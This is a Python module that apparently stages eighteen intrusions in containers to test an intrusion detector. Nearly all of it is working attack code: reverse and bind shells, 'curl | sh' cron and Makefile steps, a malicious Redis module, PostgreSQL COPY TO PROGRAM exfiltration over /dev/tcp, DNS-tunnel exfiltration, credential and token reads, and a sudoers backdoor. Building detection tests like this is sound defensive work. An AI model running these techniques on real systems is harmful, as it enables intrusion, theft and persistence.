"""Eighteen intrusions of different kinds. None needs a rule to be seen, none is called like a tool."""

import json
import subprocess

from bench.real import build
from bench.real.container import Container
from bench.real.intruder import (
    DROP_PORT,
    LISTEN_PORT,
    POOL_PORT,
    RESOLVER_PORT,
    SHELL_PORT,
    Intrusion,
    inject,
    wait,
)  # fmt: skip
from bench.real.postgres import psql
from bench.real.redis import Client
from bench.real.workload import World

_MODULE = """\
#include <stdlib.h>
int RedisModule_OnLoad(void *ctx, void **argv, int argc)
{
  (void)ctx; (void)argv; (void)argc;
  return system("cat /etc/passwd > /data/p; id >> /data/p") & 0;
}
"""


def _web_shell(world: World) -> list[Container]:
    target = world.pick("web")
    inject(target, "import os\nanswer = os.popen('id; uname -a; ls -la /srv').read()")
    return [target]


def _reverse_shell(world: World) -> list[Container]:
    target = world.pick("web")
    inject(
        target,
        "import socket, os\n"
        f"s = socket.create_connection(('{world.network.world}', {SHELL_PORT}), 5)\n"
        "order = s.recv(100)\ns.sendall(repr(os.listdir('/')).encode() + open('/etc/hostname','rb').read())\ns.close()",
    )
    return [target]


def _redis_cron(world: World) -> list[Container]:
    target = world.running("redis")[0]
    with Client(target.address) as redis:
        redis.call("SET", "x", f"\n* * * * * root curl -s {world.network.world}/u | sh\n")
        redis.call("CONFIG", "SET", "dir", "/etc/cron.d")
        redis.call("CONFIG", "SET", "dbfilename", "sysupdate")
        redis.call("SAVE")
        redis.call("CONFIG", "SET", "dir", "/data")
        redis.call("CONFIG", "SET", "dbfilename", "dump.rdb")
        redis.call("DEL", "x")
    return [target]


def _redis_module(world: World) -> list[Container]:
    """The library comes as a snapshot would: a file in the data directory."""
    target = world.running("redis")[-1]
    source = world.shared / "m.c"
    source.write_text(_MODULE)
    library = target.root / "data/exp.so"
    subprocess.run(["gcc", "-shared", "-fPIC", "-o", str(library), str(source)], check=True)
    with Client(target.address) as redis:
        redis.call("MODULE", "LOAD", "/data/exp.so")
    return [target]


def _redis_follows(world: World) -> list[Container]:
    """All data to a server of the intruder's: by the program's own means."""
    target = world.running("redis")[0]
    with Client(target.address) as redis:
        redis.call("REPLICAOF", world.network.world, "6380")
        wait(2.5)
        redis.call("REPLICAOF", "NO", "ONE")
    return [target]


def _copy_program(world: World) -> list[Container]:
    target = world.pick("postgres")
    psql(target, "COPY (SELECT 'x') TO PROGRAM 'cat > /tmp/.p; id >> /tmp/.p; ls /root >> /tmp/.p 2>&1';")
    return [target]


def _secrets(world: World) -> list[Container]:
    target = world.pick("web")
    paths = ["/etc/shadow", "/proc/1/environ", "/run/secrets/kubernetes.io/serviceaccount/token"]
    inject(target, f"answer = [open(p, 'rb').read()[:20] for p in {json.dumps(paths)}]")
    return [target]


def _dropped_program(world: World) -> list[Container]:
    target = world.pick("web")
    inject(
        target,
        "import os, shutil\nshutil.copy('/usr/bin/uname', '/dev/shm/kdevtmp')\nos.chmod('/dev/shm/kdevtmp', 0o755)\n"
        "os.waitpid(os.posix_spawn('/dev/shm/kdevtmp', ['kdevtmp', '-a'], {}), 0)",
    )
    return [target]


def _memory_program(world: World) -> list[Container]:
    target = world.pick("web")
    inject(
        target,
        "import os\nfd = os.memfd_create('')\nos.write(fd, open('/usr/bin/uname', 'rb').read())\n"
        "os.waitpid(os.posix_spawn(f'/proc/self/fd/{fd}', ['x'], {}), 0)",
    )
    return [target]


def _miner(world: World) -> list[Container]:
    """A build step that mines."""
    return _build_step(
        world, f"\t@exec 3<>/dev/tcp/{world.network.world}/{POOL_PORT}; timeout 6 sha256sum /dev/zero; true"
    )


def _fetch_and_run(world: World) -> list[Container]:
    return _build_step(world, f"\t@curl -s http://{world.network.world}:8080/setup.sh | sh")


def _build_step(world: World, line: str) -> list[Container]:
    """Push a changed Makefile, wait until it was built, put the old one back."""
    makefile = world.shared / "tree/Makefile"
    makefile.write_text("SHELL = /bin/bash\n" + build.MAKEFILE.replace("test: out/shop\n", f"test: out/shop\n{line}\n"))
    build.push(world, "test: better")
    wait(14)
    makefile.write_text(build.MAKEFILE)
    build.push(world, "test: as before")
    return list(world.running("build"))


def _names(world: World) -> list[Container]:
    """Secrets in names asked of a resolver of the intruder's."""
    target = world.pick("web")
    inject(
        target,
        "import socket, base64\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "for i in range(30):\n"
        "    name = base64.b32encode(open('/srv/app/app.py','rb').read()[i*30:i*30+30]).decode().strip('=')\n"
        "    q = bytes([0, i, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]) + bytes([len(name)]) + name.encode()\n"
        "    q += b'\\x02t1\\x04test\\x00\\x00\\x10\\x00\\x01'\n"
        f"    s.sendto(q, ('{world.network.world}', {RESOLVER_PORT}))",
    )
    return [target]


def _lateral(world: World) -> list[Container]:
    """From the web service to the database next door, and to ports that are closed."""
    target, database = world.pick("web"), world.running("postgres")[0]
    inject(
        target,
        f"import socket\nfor port in (5432, 22, 2379, 8443):\n    s = socket.socket(); s.settimeout(1)\n"
        f"    s.connect_ex(('{database.address}', port)); s.close()",
    )
    return [target]


def _cron_file(world: World) -> list[Container]:
    target = world.pick("cron")
    job = f"* * * * * root curl -s -m 3 http://{world.network.world}:8080/u -o /tmp/.u && sh /tmp/.u"
    target.execute("sh", "-c", f"echo '{job}' > /etc/cron.d/sysstat")
    wait(65)
    target.execute("rm", "-f", "/etc/cron.d/sysstat")
    return [target]


def _bind_shell(world: World) -> list[Container]:
    target = world.pick("web")
    inject(
        target,
        "import socket\ns = socket.socket()\ns.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n"
        f"s.bind(('0.0.0.0', {LISTEN_PORT})); s.listen(1); s.settimeout(2)\n"
        "try:\n    s.accept()\nexcept OSError:\n    pass\ns.close()",
    )
    return [target]


def _ptrace(world: World) -> list[Container]:
    target = world.pick("web")
    inject(
        target,
        "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
        "others = [int(p) for p in os.listdir('/proc') if p.isdigit() and int(p) not in (1, os.getpid())]\n"
        "r = libc.ptrace(16, others[0], 0, 0)\n"
        "if r == 0:\n    os.waitpid(others[0], 0); libc.ptrace(17, others[0], 0, 0)\n"
        "answer = (r, ctypes.get_errno())",
    )
    return [target]


def _hands_on(world: World) -> list[Container]:
    """Stolen cluster credentials: a shell in a container nobody ever enters that way, a door left open."""
    target = world.pick("nginx")
    script = "cat /etc/nginx/nginx.conf; echo 'www-data ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/w; tar cf /tmp/.s /etc"
    target.execute("bash", "-c", script)
    return [target]


def _upload_out(world: World) -> list[Container]:
    """What the backups hold, to a new peer, from the database's container."""
    target = world.pick("postgres")
    word = f"cat /etc/hostname > /dev/tcp/{world.network.world}/{DROP_PORT}"
    psql(target, f"""COPY item TO PROGRAM 'bash -c "{word}"';""")
    return [target]


INTRUSIONS = (
    Intrusion("web shell: the service runs a shell", "web", _web_shell, ("/sh", "/dash")),
    Intrusion("reverse shell inside the interpreter, no exec", "web", _reverse_shell, (f":{SHELL_PORT}",)),
    Intrusion("redis writes a cron file", "redis", _redis_cron, ("/etc/cron.d",)),
    Intrusion("redis loads a module", "redis", _redis_module, ("exp.so", "/sh", "/dash")),
    Intrusion("redis follows the intruder (its data leaves)", "redis", _redis_follows, (":6380",)),
    Intrusion("PostgreSQL COPY … TO PROGRAM", "postgres", _copy_program, ("/sh", "/dash", "/tmp/.p", "/usr/bin/id")),
    Intrusion("credentials read in the service", "web", _secrets, ("/etc/shadow", "environ", "/run/secrets")),
    Intrusion("a program dropped in /dev/shm and run", "web", _dropped_program, ("/dev/shm",)),
    Intrusion("a program that was never a file", "web", _memory_program, ("memfd",)),
    Intrusion("a build step that mines", "build", _miner, (f":{POOL_PORT}", "sha256sum")),
    Intrusion("a build step that fetches and runs", "build", _fetch_and_run, ("curl", ":8080")),
    Intrusion("secrets in names, to a new resolver", "web", _names, (":53", "udp")),
    Intrusion("lateral: web to the database next door", "web", _lateral, (":5432", ":22", ":2379", ":8443")),
    Intrusion("cron persistence by exec", "cron", _cron_file, ("/etc/cron.d", "curl", ":8080")),
    Intrusion("a listener inside the service", "web", _bind_shell, (f"{LISTEN_PORT}",)),
    Intrusion("ptrace of a sibling", "web", _ptrace, ("ptrace",)),
    Intrusion("hands on: a shell and a sudoers file", "nginx", _hands_on, ("bash", "/etc/sudoers.d")),
    Intrusion("database content to a new peer", "postgres", _upload_out, ("bash", f":{DROP_PORT}")),
)
